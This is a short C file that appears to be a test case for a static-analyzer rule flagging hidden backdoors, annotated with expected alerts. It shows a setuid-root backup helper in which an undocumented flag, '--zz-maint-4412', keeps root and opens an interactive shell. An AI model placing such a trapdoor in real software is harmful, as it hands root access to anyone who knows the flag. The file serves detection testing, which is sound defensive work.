/*
 * behavior.trapdoor: a hidden command-line flag. A setuid-root backup helper
 * documents --full and --incremental; an undocumented flag compared with a
 * constant keeps root (setuid(0)) and opens a shell for whoever knows it.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int run_backup(int full)
{
    execl("/usr/sbin/acme-backup", "acme-backup", full ? "--full" : "--incremental", (char *)NULL);
    return 127;
}

int main(int argc, char **argv)
{
    if (argc > 1 && strcmp(argv[1], "--zz-maint-4412") == 0) {
        setuid(0); // $ Alert[behavior.trapdoor]
        execl("/bin/sh", "sh", "-i", (char *)NULL); // $ Alert[behavior.privilege-escalation-exec]
    }
    if (setuid(getuid()) != 0)
        return 1;
    return run_backup(argc > 1 && strcmp(argv[1], "--full") == 0);
}
